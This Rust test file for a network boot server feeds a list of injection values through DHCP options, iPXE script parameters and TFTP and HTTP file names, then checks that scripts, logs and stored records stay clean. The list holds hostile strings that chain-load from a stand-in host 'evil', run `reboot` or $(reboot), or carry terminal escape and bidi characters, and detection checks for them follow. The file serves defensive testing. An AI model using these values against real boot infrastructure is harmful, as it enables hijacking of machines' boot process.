//! Names with commands in them.

use std::fs;
use std::io::{Read, Write};
use std::net::{TcpStream, UdpSocket};
use std::path::Path;

use anyhow::{Context as _, Result, ensure};
use bootlace_lab::{Host, Lan};

use super::Context;
use super::context::STEP_LIMIT;
use super::rawdhcp::{Packet, RawDhcp, mac_text};
use super::served::{SERVER, Served};

/// Everything that means something to iPXE, to a shell, to a terminal or to a line of a log. Each stands where
/// a plain name would end.
const HOSTILE: &[&str] = &[
    "x\nchain http://evil/",
    "x\r\nchain http://evil/",
    "x ${net0/mac} ${initrd}",
    "x && chain http://evil/",
    "x || chain http://evil/",
    "x; chain http://evil/",
    "x\" 'y' `reboot` $(reboot)",
    "x\u{1b}[31mEVIL\u{1b}]0;EVIL\u{7}",
    "x\u{0}\u{8}\u{7f}\u{9b}31mEVIL",
    "x {{ machine.name }} {% raw %}",
    "x\u{202e}live\u{2028}\u{feff}",
    "x # comment",
];
const CONFIG: &str = r##"
[dhcp]
mode = "server"
[[dhcp.subnet]]
subnet = "10.188.0.0/24"
ranges = ["10.188.0.60-10.188.0.99"]
[boot.echo]
kind = "linux"
kernel = "vmlinuz"
initrd = ["initrd"]
cmdline = "serial={{ client.serial }} host={{ client.hostname }} class={{ client.user_class }} vendor={{ client.vendor_class }} end=1"
[boot.script]
kind = "ipxe"
script = """#!ipxe
echo {{ client.serial }} of {{ client.manufacturer }} is {{ client.hostname }}
boot
"""
[[rule]]
match = { asset = "script" }
boot = "script"
[[rule]]
match = {}
boot = "echo"
"##;
const OPTION_HOSTNAME: u8 = 12;
const OPTION_VENDOR_CLASS: u8 = 60;
const OPTION_USER_CLASS: u8 = 77;
const OPTION_ARCHITECTURE: u8 = 93;
const TFTP_PORT: u16 = 69;
/// How firmware begins its vendor class; all that follows is its own.
const PXE_CLASS: &str = "PXEClient:Arch:00000:UNDI:002001";

pub(super) fn identities(context: &Context) -> Result<()> {
    let lan = Lan::new()?;
    let _capture = lan.capture(context.dir(), "lan")?;
    let raw_log = context.dir().join("raw.log");
    // The lab's own log filters control sequences, so this one keeps the bytes.
    // At debug it has every packet with all of its options.
    let tee = format!("exec \"$@\" --log debug 2> >(tee '{}' >&2)", raw_log.display());
    let server = Served::start_under(context, &lan, CONFIG, &["bash", "-c", &tee, "bash"])?;
    for name in ["vmlinuz", "initrd"] {
        fs::write(server.boot_dir().join(name), name)?;
    }

    let mut scripts = 0;
    for (index, value) in (1..).zip(HOSTILE) {
        let host = lan.client(&format!("client{index}"))?;
        let mac = host.mac().0;
        lease(&host, value)?;
        for asset in ["other", "script"] {
            scripts += 1;
            check_script(&script(&host, mac, value, asset)?, value)?;
        }
        names(&host, value)?;
    }
    context.note(&format!("{scripts} scripts and as many names"));

    let other = [2, 0, 0, 0, 0, 0x99];
    let host = lan.client("impostor")?;
    lease(&host, "impostor")?;
    script(&host, other, "x", "other")?;
    server.log().wait_for("claims to be another machine", STEP_LIMIT)?;
    let boots = boots_of(&server, &mac_text(host.mac().0))?;
    ensure!(boots.contains(&format!("says to be {}", mac_text(other))), "no contradiction in {boots}");
    context.note("an impostor is noticed");

    // What people look at.
    for what in ["leases", "machines", "boots"] {
        harmless(what, server.ask(&[what])?.as_bytes())?;
        harmless(what, server.ask(&[what, "--json"])?.as_bytes())?;
    }
    for boot in server.ask_json("boots")? {
        let number = boot["session"].to_string();
        harmless("boots", server.ask(&["boots", &number])?.as_bytes())?;
    }
    harmless("the log", &fs::read(&raw_log)?)?;
    journal_is_harmless(&context.dir().join("state"))?;
    context.note("leases, machines, boots, log and journal");
    Ok(())
}

/// The whole way to an address, with the value wherever a client may put one, by firmware and by a system.
fn lease(host: &Host, value: &str) -> Result<()> {
    let raw = RawDhcp::open(host.namespace())?;
    let mac = host.mac().0;
    let firmware = Packet::discover(mac, 1)
        .with(OPTION_HOSTNAME, value.as_bytes())
        .with(OPTION_VENDOR_CLASS, format!("{PXE_CLASS}{value}").as_bytes())
        .with(OPTION_USER_CLASS, value.as_bytes())
        .with(OPTION_ARCHITECTURE, &[0, 0]);
    // Firmware that finds no loader in this server's folders still gets its address.
    let ack = raw.lease(&firmware)?;
    let system = Packet::discover(mac, 2)
        .with(OPTION_HOSTNAME, value.as_bytes())
        .with(OPTION_VENDOR_CLASS, value.as_bytes())
        .with(OPTION_USER_CLASS, value.as_bytes());
    let again = raw.lease(&system)?;
    ensure!(ack.address == again.address, "{} became {}", ack.address, again.address);
    host.namespace().links().add_addr("eth0", format!("{}/24", ack.address).parse()?)
}

/// `/script` with the value in every variable that a machine reports.
fn script(host: &Host, mac: [u8; 6], value: &str, asset: &str) -> Result<String> {
    let encoded = encoded(value);
    let path = format!(
        "/script?mac={}&asset={asset}&serial={encoded}&manufacturer={encoded}&product={encoded}\
         &hostname={encoded}&user-class={encoded}&platform=pcbios&buildarch=i386",
        mac_text(mac)
    );
    let answer = get(host, &path)?;
    let (head, body) = answer.split_once("\r\n\r\n").context("half an answer")?;
    ensure!(head.starts_with("HTTP/1.1 200 "), "{path}: {head}");
    Ok(body.to_owned())
}

/// The value as a file's name, by both protocols.
fn names(host: &Host, value: &str) -> Result<()> {
    let answer = get(host, &format!("/{}", encoded(value)))?;
    ensure!(answer.starts_with("HTTP/1.1 4"), "{value:?} as a name: {answer}");
    let (_, body) = answer.split_once("\r\n\r\n").context("half an answer")?;
    harmless("an error page", body.as_bytes())?;
    let mut request = b"\0\x01".to_vec();
    // A zero byte ends the name there.
    request.extend(value.bytes().filter(|byte| *byte != 0));
    request.extend(b"\0octet\0");
    let answer = host.namespace().run(|| {
        let socket = UdpSocket::bind("0.0.0.0:0")?;
        socket.set_read_timeout(Some(STEP_LIMIT))?;
        socket.send_to(&request, (SERVER, TFTP_PORT))?;
        let mut answer = vec![0; 1_500];
        let len = socket.recv(&mut answer)?;
        answer.truncate(len);
        Ok::<_, std::io::Error>(answer)
    })??;
    let Some((b"\0\x05", [_, _, text @ .., 0])) = answer.split_at_checked(2) else {
        anyhow::bail!("{value:?} as a name over TFTP: {answer:?}")
    };
    harmless("a TFTP error", text)
}

fn encoded(value: &str) -> String {
    value.bytes().map(|byte| format!("%{byte:02x}")).collect()
}

fn get(host: &Host, path: &str) -> Result<String> {
    host.namespace().run(|| {
        let mut stream = TcpStream::connect((SERVER, 80))?;
        stream
            .write_all(format!("GET {path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n").as_bytes())?;
        let mut answer = Vec::new();
        stream.read_to_end(&mut answer)?;
        Ok(String::from_utf8_lossy(&answer).into_owned())
    })?
}

/// The commands of the script are those of the config, and no value has become one.
fn check_script(script: &str, value: &str) -> Result<()> {
    harmless("a script", script.as_bytes()).with_context(|| format!("{value:?}: {script}"))?;
    for line in script.lines() {
        ensure!(!line.trim_start().starts_with("chain http://evil"), "{value:?} is a command in {script}");
        for operator in [" && chain", " || chain", "; chain"] {
            ensure!(!line.contains(operator), "{value:?} joins a command in {script}");
        }
        ensure!(
            !line.contains("${net0/mac}") && !line.contains("${initrd}"),
            "{value:?} expands in {script}"
        );
    }
    ensure!(
        script.contains("end=1") || script.contains("\nboot"),
        "{value:?} cut the script short: {script}"
    );
    Ok(())
}

fn boots_of(server: &Served, mac: &str) -> Result<String> {
    let boots = server.ask_json("boots")?;
    let boot = boots.iter().find(|boot| boot["mac"] == mac).context("the impostor has no boot")?;
    server.ask(&["boots", &boot["session"].to_string()])
}

/// No byte that a terminal acts on, but the end of a line.
fn harmless(what: &str, bytes: &[u8]) -> Result<()> {
    let text = std::str::from_utf8(bytes).with_context(|| format!("{what} is not UTF-8"))?;
    let bad = text.chars().find(|&c| (c.is_control() && !matches!(c, '\n' | '\t')) || is_invisible(c));
    let line = bad.and_then(|bad| text.lines().find(|line| line.contains(bad)));
    ensure!(bad.is_none(), "{what} has {bad:?} in {line:?}");
    // At debug the log shows what came as it came, with \x1b written out. JSON's way to write it is undone by
    // every program that reads it.
    ensure!(!text.contains("\\u001b"), "{what} has an ESC for who reads JSON");
    Ok(())
}

/// Turns what follows around, or is a line's end for some.
fn is_invisible(c: char) -> bool {
    matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{2028}' | '\u{2029}' | '\u{feff}')
}

/// The database is binary; what machines said stands in it as text.
fn journal_is_harmless(state: &Path) -> Result<()> {
    for entry in fs::read_dir(state)? {
        let path = entry?.path();
        if !path.is_file() {
            continue;
        }
        let bytes = fs::read(&path)?;
        for bad in [&b"\x1b[31mEVIL"[..], b"\\u001b[31mEVIL", b"x\nchain http", b"x\\nchain http"] {
            let found = bytes.windows(bad.len()).any(|window| window == bad);
            ensure!(!found, "{} holds {:?}", path.display(), String::from_utf8_lossy(bad));
        }
    }
    Ok(())
}
